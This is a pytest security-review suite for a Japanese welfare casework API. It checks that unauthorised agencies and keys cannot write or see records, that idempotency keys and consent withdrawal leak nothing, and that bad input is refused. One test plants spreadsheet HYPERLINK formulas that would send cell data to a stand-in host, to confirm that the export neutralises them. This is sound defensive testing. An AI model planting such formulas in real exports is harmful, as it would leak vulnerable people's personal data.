"""Security review of the journey's API writes: basis and IDOR by path and by body, the page's rules, the
links, idempotency keys, atomicity and input. A test that fails here is a finding of the review."""

from __future__ import annotations

import datetime as dt
import hashlib
import json
from collections.abc import Iterator
from typing import Any

import pytest
import time_machine
from django.test import Client

from kasane.accounts.apikeys.services import issue_key
from kasane.api.models import IdempotencyKey
from kasane.audit.actor import Actor
from kasane.audit.models import AuditEntry
from kasane.casework.models import Consent, Consultation, Household, Person, Referral
from tests import factories
from tests.clock import morning_of

pytestmark = pytest.mark.django_db

NOW = morning_of(dt.date(2026, 11, 23))


@pytest.fixture(autouse=True)
def _late_november_2026() -> Iterator[Any]:
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


@pytest.fixture
def records(world: dict[str, Any]) -> dict[str, Any]:
    return factories.journey(world)


def staff(world: dict[str, Any], who: str) -> Client:
    client = Client()
    client.force_login(world["users"][who])
    return client


def south_staff(world: dict[str, Any], make_user: Any) -> Client:
    """A 相談員 of 南部包括: same municipality, no basis for the 8050 household."""
    client = Client()
    client.force_login(make_user("south_reviewer", world["agencies"]["houkatsu_south"], "soudanin"))
    return client


def post(client: Client, path: str, body: dict[str, Any], **headers: Any) -> Any:
    return client.post(path, body, content_type="application/json", **headers)


def system(world: dict[str, Any], agency: str, name: str) -> dict[str, Any]:
    home = agency == "other"
    _key, secret = issue_key(
        name=name,
        agency=world["agencies"][agency],
        scopes=["case.view", "case.edit"],
        expires_at=None,
        actor=Actor(
            user=world["users"]["other_city" if home else "city"],
            municipality=world["other_municipality" if home else "municipality"],
        ),
    )
    return {"HTTP_AUTHORIZATION": f"Bearer {secret}"}


CONSENT = {"covers_meeting": True, "obtained_on": "2026-11-22"}
INTAKE = {
    "received_at": "2026-11-22T09:00:00",
    "route": "self",
    "topics": ["debt"],
    "complaint": "家賃を滞納している。",
}
PLAN: dict[str, Any] = {"long_term_goal": "安心して暮らしたい", "short_term_goals": "月に1回話す"}


def plan(world: dict[str, Any]) -> dict[str, Any]:
    return PLAN | {"roles": [{"agency_id": world["agencies"]["shakyo"].pk, "actions": "見守り"}]}


def writes_on(world: dict[str, Any], records: dict[str, Any]) -> list[tuple[str, str, dict[str, Any]]]:
    """Every write whose record is named by its path, with a body the page would accept."""
    return [
        ("post", f"/api/v1/persons/{records['mother'].pk}/consents", CONSENT),
        (
            "post",
            f"/api/v1/consents/{records['consent'].pk}/withdrawal",
            {"withdrawn_on": "2026-11-23", "withdrawal_note": "撤回"},
        ),
        (
            "post",
            f"/api/v1/households/{records['household'].pk}/members",
            {"name": "髙橋 次郎", "kana": "たかはし じろう", "relationship": "child"},
        ),
        ("post", f"/api/v1/referrals/{records['referral'].pk}/transitions", {"action": "start"}),
        ("post", f"/api/v1/cases/{records['case'].pk}/transitions", {"action": "review_plan"}),
        ("post", f"/api/v1/cases/{records['case'].pk}/plans", plan(world)),
        (
            "put",
            f"/api/v1/plans/{records['plan'].pk}",
            plan(world) | {"lock_version": records["plan"].lock_version},
        ),
        (
            "post",
            f"/api/v1/cases/{records['case'].pk}/assessments",
            {"assessed_on": "2026-11-23", "household_situation": "二人暮らし"},
        ),
        (
            "post",
            f"/api/v1/cases/{records['case'].pk}/evaluations",
            {
                "evaluated_on": "2026-11-23",
                "reasons": "目標達成",
                "direction": "close",
                "goals": [{"result": "met"}],
            },
        ),
        ("post", f"/api/v1/cases/{records['case'].pk}/notes", {"on": "2026-11-23", "text": "訪問した。"}),
    ]


def send(client: Client, method: str, path: str, body: dict[str, Any], **headers: Any) -> Any:
    return getattr(client, method)(path, body, content_type="application/json", **headers)


# --- IDOR / basis by path -------------------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["other_city", "south"])
def test_no_basis_no_write_and_the_same_404_as_a_missing_record(
    world: dict[str, Any], records: dict[str, Any], make_user: Any, who: str
) -> None:
    client = south_staff(world, make_user) if who == "south" else staff(world, "other_city")
    before = AuditEntry.objects.exclude(action__endswith="denied").count()
    for method, path, body in writes_on(world, records):
        response = send(client, method, path, body)
        assert response.status_code == 404, (path, response.status_code, response.content.decode())
    # A record that does not exist answers alike: nothing tells a hidden record from a missing one.
    missing = send(client, "post", "/api/v1/persons/999999/consents", CONSENT)
    assert missing.status_code == 404
    assert Consent.objects.count() == 1
    assert not Consent.objects.filter(withdrawn_at__isnull=False).exists()
    assert AuditEntry.objects.exclude(action__endswith="denied").count() == before


def test_a_system_key_of_another_municipality_writes_nothing(
    world: dict[str, Any], records: dict[str, Any]
) -> None:
    headers = system(world, "other", "となり町のシステム")
    client = Client()
    for method, path, body in writes_on(world, records):
        response = send(client, method, path, body, **headers)
        assert response.status_code == 404, (path, response.status_code)


def test_the_case_team_reads_but_does_not_write_the_hubs_case(
    world: dict[str, Any], records: dict[str, Any]
) -> None:
    """北部包括 is on the case's team: it sees the case (so 403, not 404) but only the hub writes it."""
    north = staff(world, "soudanin")
    for method, path, body in writes_on(world, records)[4:9]:
        response = send(north, method, path, body)
        assert response.status_code == 403, (path, response.status_code, response.content.decode())
    # The hub sees the household through its case but does not add members to 北部包括's household.
    hub = staff(world, "coordinator")
    _m, path, body = writes_on(world, records)[2]
    assert post(hub, path, body).status_code == 403
    assert Person.objects.filter(household=records["household"]).count() == 2


def test_only_the_consents_own_agency_withdraws_it(world: dict[str, Any], records: dict[str, Any]) -> None:
    hub = staff(world, "coordinator")  # sees the consent through the case, did not record it
    response = post(
        hub,
        f"/api/v1/consents/{records['consent'].pk}/withdrawal",
        {"withdrawn_on": "2026-11-23", "withdrawal_note": "撤回"},
    )
    assert response.status_code in (403, 404)
    records["consent"].refresh_from_db()
    assert records["consent"].is_active


def test_referral_steps_follow_the_side(world: dict[str, Any], records: dict[str, Any]) -> None:
    referral = records["referral"]  # 北部包括 → hub, accepted
    north = staff(world, "soudanin")
    as_sender = post(north, f"/api/v1/referrals/{referral.pk}/transitions", {"action": "start"})
    assert as_sender.status_code == 409  # the receiver's step
    referral.refresh_from_db()
    assert referral.status == "accepted"
    viewer = staff(world, "viewer")  # the hub's read-only staff
    assert (
        post(viewer, f"/api/v1/referrals/{referral.pk}/transitions", {"action": "start"}).status_code == 403
    )


# --- IDOR by body ---------------------------------------------------------------------------------------------


def test_ids_in_the_body_are_checked_like_ids_in_the_path(
    world: dict[str, Any], records: dict[str, Any], make_user: Any
) -> None:
    south = south_staff(world, make_user)
    hub_id = world["agencies"]["shakyo"].pk
    assert (
        post(south, "/api/v1/consultations", INTAKE | {"person_id": records["mother"].pk}).status_code == 404
    )
    assert (
        post(south, "/api/v1/consultations", INTAKE | {"referral_id": records["referral"].pk}).status_code
        == 404
    )
    referral = {
        "to_agency_id": hub_id,
        "shared_fields": ["name"],
        "message": "お願いします。",
        "basis": "consent",
    }
    assert post(south, "/api/v1/referrals", referral | {"person_id": records["mother"].pk}).status_code == 404
    assert (
        post(
            south, "/api/v1/referrals", referral | {"consultation_id": records["consultation"].pk}
        ).status_code
        == 404
    )
    # The hub sees the consultation through its case, but only the agency that took it refers it.
    hub = staff(world, "coordinator")
    body = referral | {
        "consultation_id": records["consultation"].pk,
        "to_agency_id": world["agencies"]["division"].pk,
    }
    assert post(hub, "/api/v1/referrals", body).status_code == 404
    assert Referral.objects.count() == 1
    assert Consultation.objects.count() == 1


def test_a_referral_cannot_rest_on_someone_elses_consent(
    world: dict[str, Any], records: dict[str, Any]
) -> None:
    north = staff(world, "soudanin")
    other = factories.person(world["agencies"]["houkatsu_north"], "佐藤 花子", "さとう はなこ")
    theirs = factories.consent(other, world["agencies"]["houkatsu_north"])
    body = {
        "person_id": records["son"].pk,
        "to_agency_id": world["agencies"]["shakyo"].pk,
        "shared_fields": ["name"],
        "message": "お願いします。",
        "basis": "consent",
        "consent_id": theirs.pk,
    }
    response = post(north, "/api/v1/referrals", body)
    assert response.status_code == 422
    assert response.json()["errors"][0]["loc"] == ["body", "payload", "consent_id"]


def test_agencies_of_another_municipality_are_refused_in_bodies(
    world: dict[str, Any], records: dict[str, Any]
) -> None:
    north = staff(world, "soudanin")
    other = world["agencies"]["other"].pk
    shared = post(
        north, f"/api/v1/persons/{records['mother'].pk}/consents", CONSENT | {"shared_agencies": [other]}
    )
    assert shared.status_code == 422
    referred = post(
        north,
        "/api/v1/consultations",
        INTAKE | {"person_id": records["mother"].pk, "route": "agency", "referrer_agency_id": other},
    )
    assert referred.status_code == 422
    assert referred.json()["errors"][0]["loc"] == ["body", "payload", "referrer_agency_id"]
    to_other = post(
        north,
        "/api/v1/referrals",
        {
            "person_id": records["mother"].pk,
            "to_agency_id": other,
            "shared_fields": ["name"],
            "message": "お願いします。",
            "basis": "law_other",
            "basis_note": "高齢者虐待防止法",
        },
    )
    assert to_other.status_code == 422
    assert Consent.objects.count() == 1 and Referral.objects.count() == 1


def test_a_case_is_opened_only_with_the_collaboration_consent(world: dict[str, Any], make_user: Any) -> None:
    records = factories.journey(world)
    hub = staff(world, "coordinator")
    # A person of the hub's own with a consent that covers the meeting only.
    person = factories.person(world["agencies"]["shakyo"], "佐藤 花子", "さとう はなこ")
    factories.consent(person, world["agencies"]["shakyo"], collaboration=False)
    intake = factories.consultation(person, world["agencies"]["shakyo"])
    response = post(
        hub, "/api/v1/cases", {"consultation_id": intake.pk, "title": "困窮", "opened_on": "2026-11-23"}
    )
    assert response.status_code == 409
    assert "同意" in response.json()["detail"]
    assert records["case"].__class__.objects.filter(person=person).count() == 0


def test_approval_and_closure_are_not_api_steps(world: dict[str, Any], records: dict[str, Any]) -> None:
    hub = staff(world, "coordinator")
    for action in ("approve", "close", "activate"):
        response = post(hub, f"/api/v1/cases/{records['case'].pk}/transitions", {"action": action})
        assert response.status_code == 422
        assert response.json()["detail"] == "入力内容に誤りがあります。"


# --- Links ----------------------------------------------------------------------------------------------------


def test_after_withdrawal_the_receiver_loses_the_person_and_the_intake(
    world: dict[str, Any], records: dict[str, Any]
) -> None:
    hub = staff(world, "coordinator")
    referral = records["referral"]
    # The hub first takes the referral's intake with a key.
    body = INTAKE | {"referral_id": referral.pk}
    first = post(hub, "/api/v1/consultations", body, HTTP_IDEMPOTENCY_KEY="intake-1")
    assert first.status_code == 201, first.content.decode()
    north = staff(world, "soudanin")
    withdrawn = post(
        north,
        f"/api/v1/consents/{records['consent'].pk}/withdrawal",
        {"withdrawn_on": "2026-11-23", "withdrawal_note": "本人の申出"},
    )
    assert withdrawn.status_code == 200
    shown = hub.get(f"/api/v1/referrals/{referral.pk}").json()
    assert shown["person"] is None and shown["shared"] is None
    assert shown["consultation"] is None
    # The replay re-checks the referral's basis as a fresh request would: 404, not the first answer.
    again = post(hub, "/api/v1/consultations", body, HTTP_IDEMPOTENCY_KEY="intake-1")
    assert again.status_code == 404


def test_a_team_member_learns_no_referral_it_is_not_party_to(
    world: dict[str, Any], records: dict[str, Any], make_user: Any
) -> None:
    """南部包括 joins the case's team: it sees the case, but not the つなぎ between 北部包括 and the hub."""
    from kasane.casework.models import TeamMember

    case = records["case"]
    case.referral = records["referral"]
    case.save(update_fields=["referral"])
    TeamMember.objects.create(
        case=case, agency=world["agencies"]["houkatsu_south"], part="support", joined_on=case.opened_on
    )
    south = south_staff(world, make_user)
    shown = south.get(f"/api/v1/cases/{case.pk}")
    assert shown.status_code == 200
    assert shown.json()["referral"] is None


def test_a_receivers_links_lead_only_where_it_may_go(world: dict[str, Any], make_user: Any) -> None:
    """南部包括 receives a つなぎ about a person of 北部包括: every link in what it is shown must answer it
    (a link to a record it may not open tells it that record's number)."""
    north_agency, south_agency = world["agencies"]["houkatsu_north"], world["agencies"]["houkatsu_south"]
    person = factories.person(north_agency, "佐藤 花子", "さとう はなこ")
    agreed = factories.consent(person, north_agency, shared=[south_agency])
    intake = factories.consultation(person, north_agency, agreed)
    sent = factories.referral(intake, south_agency, agreed)
    south = south_staff(world, make_user)
    seen = south.get(f"/api/v1/referrals/{sent.pk}").json()
    person_link = seen["person"]
    assert person_link is not None
    shown = south.get(person_link["url"])
    assert shown.status_code == 200
    household = shown.json()["household"]
    assert south.get(household["url"]).status_code == 200, "the person's household link leads to a 404"


def test_body_ids_of_other_households_and_municipalities_in_case_writes(
    world: dict[str, Any], records: dict[str, Any]
) -> None:
    hub = staff(world, "coordinator")
    stranger = factories.person(world["agencies"]["shakyo"], "佐藤 花子", "さとう はなこ")
    body = {
        "assessed_on": "2026-11-23",
        "household_situation": "二人暮らし",
        "members": [{"person_id": stranger.pk, "situation": "別世帯の方"}],
    }
    wrong_member = post(hub, f"/api/v1/cases/{records['case'].pk}/assessments", body)
    assert wrong_member.status_code == 422
    other_role = PLAN | {"roles": [{"agency_id": world["agencies"]["other"].pk, "actions": "見守り"}]}
    plan_path = f"/api/v1/plans/{records['plan'].pk}"
    assert hub.put(
        plan_path, other_role | {"lock_version": 0}, content_type="application/json"
    ).status_code in (
        409,
        422,
    )


def test_a_note_is_refused_like_every_other_write(world: dict[str, Any], records: dict[str, Any]) -> None:
    """Every other write answers a refused body with 422 and the field's place; notes answer 400 and a
    joined sentence, and take text of any length (the other writes bound theirs)."""
    hub = staff(world, "coordinator")
    path = f"/api/v1/cases/{records['case'].pk}/notes"
    from kasane.casework.models import ProgressNote

    before = ProgressNote.objects.count()
    empty = post(hub, path, {"on": "2026-11-23", "text": "　"})
    huge = post(hub, path, {"on": "2026-11-23", "text": "あ" * 200_000})
    answers = (empty.status_code, huge.status_code)
    written = ProgressNote.objects.count() - before
    assert answers == (422, 422) and written == 0, (answers, written, empty.content.decode())


# --- Idempotency ----------------------------------------------------------------------------------------------


def test_another_callers_key_never_answers_with_the_first_callers_record(
    world: dict[str, Any], records: dict[str, Any], make_user: Any
) -> None:
    north = staff(world, "soudanin")
    path = f"/api/v1/persons/{records['mother'].pk}/consents"
    first = post(north, path, CONSENT, HTTP_IDEMPOTENCY_KEY="shared-key")
    assert first.status_code == 201
    # Another member of staff of the same agency, the same key and body: a record of their own.
    colleague = Client()
    colleague.force_login(make_user("north2", world["agencies"]["houkatsu_north"], "soudanin"))
    theirs = post(colleague, path, CONSENT, HTTP_IDEMPOTENCY_KEY="shared-key")
    assert theirs.status_code == 201 and theirs.json()["id"] != first.json()["id"]
    # Two keys of the same agency are two callers as well.
    a, b = system(world, "houkatsu_north", "A"), system(world, "houkatsu_north", "B")
    one = post(Client(), path, CONSENT, HTTP_IDEMPOTENCY_KEY="k", **a)
    two = post(Client(), path, CONSENT, HTTP_IDEMPOTENCY_KEY="k", **b)
    assert one.status_code == two.status_code == 201 and one.json()["id"] != two.json()["id"]
    # Outsiders replaying the key learn nothing: their request is checked and refused before any replay.
    south = south_staff(world, make_user)
    assert post(south, path, CONSENT, HTTP_IDEMPOTENCY_KEY="shared-key").status_code == 404


def test_the_same_key_with_another_operation_is_refused(
    world: dict[str, Any], records: dict[str, Any]
) -> None:
    north = staff(world, "soudanin")
    post(north, f"/api/v1/persons/{records['mother'].pk}/consents", CONSENT, HTTP_IDEMPOTENCY_KEY="x")
    other = post(north, f"/api/v1/persons/{records['son'].pk}/consents", CONSENT, HTTP_IDEMPOTENCY_KEY="x")
    assert other.status_code == 422
    assert Consent.objects.filter(person=records["son"]).count() == 0


def test_the_kept_fingerprint_cannot_confirm_a_guessed_body(world: dict[str, Any]) -> None:
    """Nothing personal is kept: but a plain SHA-256 of a short body (name, ふりがな, birth date) lets
    whoever reads the table confirm a guess of who was registered. The fingerprint must be keyed (HMAC)."""
    north = staff(world, "soudanin")
    body = {"person": {"name": "佐々木 ハル", "kana": "ささき はる", "birth_date": "1950-01-02"}}
    assert post(north, "/api/v1/households", body, HTTP_IDEMPOTENCY_KEY="h-1").status_code == 201
    kept = IdempotencyKey.objects.get()
    guess = hashlib.sha256(b"POST /api/v1/households\n" + json.dumps(body).encode())
    assert kept.fingerprint != guess.hexdigest()


def test_a_replay_from_a_concurrent_duplicate_leaves_one_record(
    world: dict[str, Any], monkeypatch: Any
) -> None:
    """The second of two identical requests finds the first's key only at insert time (the race): it is
    rolled back whole and answered with the first's record."""
    from kasane.api import idempotency

    north = staff(world, "soudanin")
    body = {"person": {"name": "佐々木 ハル", "kana": "ささき はる"}, "confirmed_new": True}
    first = post(north, "/api/v1/households", body, HTTP_IDEMPOTENCY_KEY="race")
    real_earlier = idempotency._earlier
    calls = {"n": 0}

    def blind_first(request: Any, key: str) -> Any:
        calls["n"] += 1
        return None if calls["n"] == 1 else real_earlier(request, key)  # the race: not seen before create

    monkeypatch.setattr(idempotency, "_earlier", blind_first)
    second = post(north, "/api/v1/households", body, HTTP_IDEMPOTENCY_KEY="race")
    other = post(north, "/api/v1/households", body | {"confirmed_new": False}, HTTP_IDEMPOTENCY_KEY="race")
    assert second.status_code == 201 and second.json()["id"] == first.json()["id"]
    assert other.status_code == 422  # another body under the key
    assert Person.objects.count() == 1 and Household.objects.count() == 1


# --- Atomicity ------------------------------------------------------------------------------------------------


def test_a_household_whose_member_fails_leaves_nothing(world: dict[str, Any], monkeypatch: Any) -> None:
    from kasane.api import journey
    from kasane.casework.services import households

    real = households.create_person
    made = {"n": 0}

    def failing(*args: Any, **kwargs: Any) -> Any:
        made["n"] += 1
        if made["n"] == 2:
            raise RuntimeError("database went away")
        return real(*args, **kwargs)

    monkeypatch.setattr(journey, "create_person", failing)
    client = Client(raise_request_exception=False)
    client.force_login(world["users"]["soudanin"])
    body = {
        "person": {"name": "佐々木 ハル", "kana": "ささき はる"},
        "members": [{"name": "佐々木 ナツ", "kana": "ささき なつ", "relationship": "child"}],
    }
    response = post(client, "/api/v1/households", body, HTTP_IDEMPOTENCY_KEY="atomic")
    assert response.status_code == 500
    assert not Person.objects.exists() and not Household.objects.exists()
    assert not AuditEntry.objects.filter(action="person.created").exists()
    assert not IdempotencyKey.objects.exists()


# --- Input ----------------------------------------------------------------------------------------------------


def test_input_out_of_bounds_is_a_japanese_422_and_never_a_500(
    world: dict[str, Any], records: dict[str, Any]
) -> None:
    north = staff(world, "soudanin")
    cases: list[tuple[str, dict[str, Any]]] = [
        ("/api/v1/households", {"person": {"name": "あ" * 61}}),
        ("/api/v1/households", {"person": {"name": "あ\x00い"}}),
        ("/api/v1/households", {"person": {"name": "佐々木", "sex": "x"}}),
        ("/api/v1/households", {"person": {"name": "佐々木", "birth_date": "9999-12-31"}}),
        (f"/api/v1/persons/{records['mother'].pk}/consents", CONSENT | {"obtained_on": "9999-12-31"}),
        (f"/api/v1/persons/{records['mother'].pk}/consents", CONSENT | {"obtained_on": "0001-01-01"}),
        (f"/api/v1/persons/{records['mother'].pk}/consents", CONSENT | {"method": "telepathy"}),
        (
            "/api/v1/consultations",
            INTAKE | {"person_id": records["mother"].pk, "received_at": "9999-12-31T23:59:00-12:00"},
        ),
        (
            "/api/v1/consultations",
            INTAKE | {"person_id": records["mother"].pk, "received_at": "0001-01-01T00:00:00+14:00"},
        ),
        (
            "/api/v1/consultations",
            INTAKE | {"person_id": records["mother"].pk, "received_at": "2030-01-01T09:00:00"},
        ),
        ("/api/v1/consultations", INTAKE | {"person_id": records["mother"].pk, "complaint": "あ" * 10_001}),
        (
            f"/api/v1/consents/{records['consent'].pk}/withdrawal",
            {"withdrawn_on": "2026-11-01", "withdrawal_note": "撤回"},  # before it was given (11-20)
        ),
    ]
    for path, body in cases:
        response = post(north, path, body)
        assert response.status_code == 422, (
            path,
            body,
            response.status_code,
            response.content.decode()[:300],
        )
        assert response.json()["detail"] == "入力内容に誤りがあります。"
    assert Person.objects.count() == 2 and Consent.objects.count() == 1
    records["consent"].refresh_from_db()
    assert records["consent"].is_active


def test_a_formula_typed_through_the_api_never_runs_in_the_export(
    world: dict[str, Any], records: dict[str, Any]
) -> None:
    import io

    from django.urls import reverse
    from openpyxl import load_workbook

    hub = staff(world, "coordinator")
    shakyo = world["agencies"]["shakyo"]
    own = factories.person(shakyo, '=HYPERLINK("http://x/?"&A1,"開く")', "さとう はなこ")
    intake = factories.consultation(own, shakyo, factories.consent(own, shakyo))
    title = '=HYPERLINK("http://x/?"&B2,"詳細")'
    answer = post(
        hub, "/api/v1/cases", {"consultation_id": intake.pk, "title": title, "opened_on": "2026-11-23"}
    )
    assert answer.status_code == 201, answer.content.decode()
    exported = hub.get(reverse("cases:export"))
    assert exported.status_code == 200
    content = b"".join(exported.streaming_content)  # type: ignore[attr-defined]
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [
        c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert cells, "the typed text is in the export"
    assert all(c.data_type != "f" for c in cells)


def test_intake_takes_three_members_at_most_as_the_page(world: dict[str, Any]) -> None:
    north = staff(world, "soudanin")
    members = [
        {"name": f"佐々木 {n}", "kana": f"ささき {k}", "relationship": "child"}
        for n, k in zip("一二三四", ("いち", "に", "さん", "よん"), strict=True)
    ]
    body = INTAKE | {"person": {"name": "佐々木 ハル", "kana": "ささき はる"}, "members": members}
    response = post(north, "/api/v1/consultations", body)
    assert response.status_code == 422
    assert not Person.objects.exists()


def test_session_writes_need_the_csrf_token_even_with_an_unknown_bearer(world: dict[str, Any]) -> None:
    client = Client(enforce_csrf_checks=True)
    client.force_login(world["users"]["soudanin"])
    body = {"person": {"name": "佐々木 ハル", "kana": "ささき はる"}}
    assert post(client, "/api/v1/households", body).status_code == 403
    assert (
        post(client, "/api/v1/households", body, HTTP_AUTHORIZATION="Bearer kasane_junk").status_code == 403
    )
    assert not Person.objects.exists()


def test_a_read_only_key_writes_nothing(world: dict[str, Any], records: dict[str, Any]) -> None:
    _key, secret = issue_key(
        name="閲覧だけのシステム",
        agency=world["agencies"]["houkatsu_north"],
        scopes=["case.view"],
        expires_at=None,
        actor=Actor(user=world["users"]["city"], municipality=world["municipality"]),
    )
    headers = {"HTTP_AUTHORIZATION": f"Bearer {secret}"}
    body = {"person": {"name": "佐々木 ハル", "kana": "ささき はる"}}
    assert post(Client(), "/api/v1/households", body, **headers).status_code == 403
    path = f"/api/v1/persons/{records['mother'].pk}/consents"
    assert post(Client(), path, CONSENT, **headers).status_code == 403
    withdrawal = {"withdrawn_on": "2026-11-23", "withdrawal_note": "撤回"}
    assert (
        post(
            Client(), f"/api/v1/consents/{records['consent'].pk}/withdrawal", withdrawal, **headers
        ).status_code
        == 403
    )
    assert Person.objects.count() == 2 and Consent.objects.count() == 1


def _links(shown: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {
        name: value
        for name, value in shown.items()
        if isinstance(value, dict) and set(value) == {"id", "url"}
    }


def test_after_withdrawal_the_hubs_own_case_links_nothing_it_may_no_longer_open(
    world: dict[str, Any], records: dict[str, Any]
) -> None:
    """The hub keeps its case after the consent is withdrawn (its own record), but no longer reaches
    北部包括's person, household or consultation: a link to them tells it their numbers and leads to 404."""
    north = staff(world, "soudanin")
    withdrawn = post(
        north,
        f"/api/v1/consents/{records['consent'].pk}/withdrawal",
        {"withdrawn_on": "2026-11-23", "withdrawal_note": "本人の申出"},
    )
    assert withdrawn.status_code == 200
    case = records["case"]
    case.consultation = records["consultation"]
    case.save(update_fields=["consultation"])
    hub = staff(world, "coordinator")
    shown = hub.get(f"/api/v1/cases/{case.pk}")
    assert shown.status_code == 200
    dead = {name: hub.get(link["url"]).status_code for name, link in _links(shown.json()).items()}
    assert all(code == 200 for code in dead.values()), dead


def test_a_senders_link_to_a_person_it_no_longer_sees(world: dict[str, Any], records: dict[str, Any]) -> None:
    """The hub refers the mother on (law basis) while the case's consent stands; once it is withdrawn the
    hub no longer sees her, but its sent referral still links her."""
    hub = staff(world, "coordinator")
    body = {
        "person_id": records["mother"].pk,
        "to_agency_id": world["agencies"]["division"].pk,
        "shared_fields": ["name"],
        "message": "生活保護の相談をお願いします。",
        "basis": "law_other",
        "basis_note": "生活困窮者自立支援法",
    }
    sent = post(hub, "/api/v1/referrals", body)
    assert sent.status_code == 201, sent.content.decode()
    north = staff(world, "soudanin")
    post(
        north,
        f"/api/v1/consents/{records['consent'].pk}/withdrawal",
        {"withdrawn_on": "2026-11-23", "withdrawal_note": "本人の申出"},
    )
    assert hub.get(f"/api/v1/persons/{records['mother'].pk}").status_code == 404
    shown = hub.get(f"/api/v1/referrals/{sent.json()['id']}").json()
    dead = {name: hub.get(link["url"]).status_code for name, link in _links(shown).items()}
    assert all(code == 200 for code in dead.values()), dead


def test_after_withdrawal_the_receivers_own_intake_links_nothing_it_may_no_longer_open(
    world: dict[str, Any], records: dict[str, Any]
) -> None:
    """The hub took an intake from 北部包括's つなぎ; after the withdrawal the intake is still its own, but
    the person and household it links are no longer the hub's to open."""
    hub = staff(world, "coordinator")
    taken = post(hub, "/api/v1/consultations", INTAKE | {"referral_id": records["referral"].pk})
    assert taken.status_code == 201, taken.content.decode()
    post(
        staff(world, "soudanin"),
        f"/api/v1/consents/{records['consent'].pk}/withdrawal",
        {"withdrawn_on": "2026-11-23", "withdrawal_note": "本人の申出"},
    )
    shown = hub.get(f"/api/v1/consultations/{taken.json()['id']}")
    assert shown.status_code == 200
    dead = {name: hub.get(link["url"]).status_code for name, link in _links(shown.json()).items()}
    assert all(code == 200 for code in dead.values()), dead
